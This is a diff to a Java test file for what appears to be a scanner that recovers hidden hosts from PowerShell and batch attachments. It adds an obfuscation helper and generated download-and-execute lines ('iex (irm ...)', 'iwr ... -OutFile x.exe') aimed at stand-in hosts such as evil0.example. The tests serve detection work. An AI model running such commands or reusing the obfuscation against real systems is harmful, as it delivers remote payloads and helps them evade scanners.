@@ -14,6 +14,7 @@ import java.util.Map;
 import java.util.Objects;
 import java.util.Random;
 import java.util.Set;
+import java.util.stream.Stream;
 import java.util.zip.ZipEntry;
 import java.util.zip.ZipOutputStream;
 import org.bloomgate.Rounds;
@@ -68,6 +69,76 @@ class CommandsTest {
             case 4 -> "x='" + rest + first + "'\neval \"${x:" + rest.length() + "}${x:0:" + rest.length() + "}\"\n";
             default -> "eval '" + first + "'\"" + rest + "\"\n";
         };
+    }
+
+    /// One step of hiding a text in PowerShell: an expression with that value.
+    private static String hideInPowerShell(String text, Random random) {
+        int half = 1 + random.nextInt(text.length() - 1);
+        String first = text.substring(0, half);
+        String second = text.substring(half);
+        char quote = random.nextBoolean() ? '"' : '\'';
+        String blank = random.nextBoolean() ? " " : "";
+        List<String> quoted = Stream.of("{1}-{0}", second, first, "~", "t", text.replace('t', '~'), "_")
+                .map(part -> quote + part + quote)
+                .toList();
+        return switch (random.nextInt(7)) {
+            case 0 -> quoted.get(0).replace("-", "") + blank + "-f" + blank + quoted.get(1) + "," + quoted.get(2);
+            case 1 -> quoted.get(5) + blank + "-replace" + blank + quoted.get(3) + ", " + quoted.get(4);
+            case 2 -> quoted.get(2) + blank + "+" + blank + quoted.get(1);
+            case 3 -> "(" + quoted.get(2) + "," + quoted.get(1) + ") -join ''";
+            case 4 -> "$(" + quoted.get(2) + ")" + " + " + quoted.get(1);
+            case 5 -> "(" + quoted.get(0) + " -f " + quoted.get(1) + "," + quoted.get(2) + ") -replace '-',''";
+            default -> quote + text.replace("h", random.nextBoolean() && quote == '"' ? "`h" : "h") + quote;
+        };
+    }
+
+    @Test
+    void constantsOfPowerShell_areResolvedOverStepsAndStatements() {
+        Random random = new Random(11);
+        for (int round = 0; round < ROUNDS; round++) {
+            String url = "https://evil" + round + ".example/x";
+            int half = 9 + random.nextInt(url.length() - 12);
+            int kind = random.nextInt(4);
+            String script = switch (kind) {
+                case 0 -> "iex (irm (" + hideInPowerShell(url, random) + "))";
+                case 1 -> "$u = " + hideInPowerShell(url, random) + "\niwr $u -OutFile x.exe";
+                case 2 ->
+                    "$Part=" + hideInPowerShell(url.substring(0, half), random) + "; $part += "
+                            + hideInPowerShell(url.substring(half), random) + "\nirm \"$($part)\" | iex";
+                default -> "& 'Invoke-RestMethod' -Uri (" + hideInPowerShell(url, random) + ")";
+            };
+            String name = kind == 0 && random.nextBoolean() ? "a.bat" : "a.ps1";
+            String file = name.equals("a.ps1")
+                    ? script
+                    : "powershell -c \"" + script.replace('"', '\'').replace('\n', ';') + "\"";
+
+            assertTrue(attached(name, file).holds(Place.SCRIPT_ATTACHMENT, "evil" + round + ".example"), file);
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "$a = '{0} of {1}' -f $i, $n\nWrite-Host $a",
+                "Get-ChildItem *.log | Where-Object { $_.Length -gt 1MB } | Remove-Item",
+                "[CmdletBinding()]\nparam([string]$Path = 'C:\\logs')\n$x = $Path -replace '\\\\', '/'",
+                "$token = 'QWxhZGRpbjpvcGVuc2VzYW1l1'\n$token | Invoke-RestMethod -Uri https://api.example.com/v1",
+                "$json = '{\"a\": 1}' | ConvertFrom-Json\nif ($json.a -eq 1) { Write-Output ($json.a + 1) }"
+            })
+    void scriptsOfAdministrators_reachNoLimit(String script) {
+        assertEquals(Set.of(), attached("a.ps1", script).limits());
+    }
+
+    @Test
+    void assignmentsAndParentheses_areReadToTheirBounds() {
+        String url = "irm ('{0}evil.example' -f 'https://')";
+        assertEquals(
+                Set.of(),
+                attached("a.ps1", "$a = ".repeat(50_000) + "'x'\n" + url).limits());
+        assertTrue(attached("a.ps1", "(".repeat(14) + url + ")".repeat(14)).holds("evil.example"));
+        assertEquals(
+                Set.of("nesting"),
+                attached("a.ps1", "(".repeat(16) + url + ")".repeat(16)).limits());
     }
 
     @Test
